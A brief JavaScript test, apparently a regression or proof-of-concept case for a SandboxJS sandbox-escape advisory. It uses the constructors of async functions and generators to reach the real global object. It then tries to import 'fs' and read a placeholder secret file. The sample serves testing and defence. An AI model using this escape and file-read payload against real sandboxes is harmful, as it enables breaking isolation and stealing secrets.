// The constructors of async functions, generators and async generators.
// advisory: CVE-2025-34146 (SandboxJS)
const makers = [async () => {}, function* () {}, async function* () {}].map((f) => f.constructor);
(async () => {
  for (const make of makers) reach(make);
  reach(await makers[0]('return globalThis')());
  reach([...makers[1]('yield globalThis')()][0]);
  for await (const value of makers[2]('yield globalThis')()) reach(value);
  try { await makers[0]('const m = await import("fs"); console.log(m.readFileSync("@SECRET_PATH@", "utf8"))')(); } catch (error) { console.log(error.name); }
})();
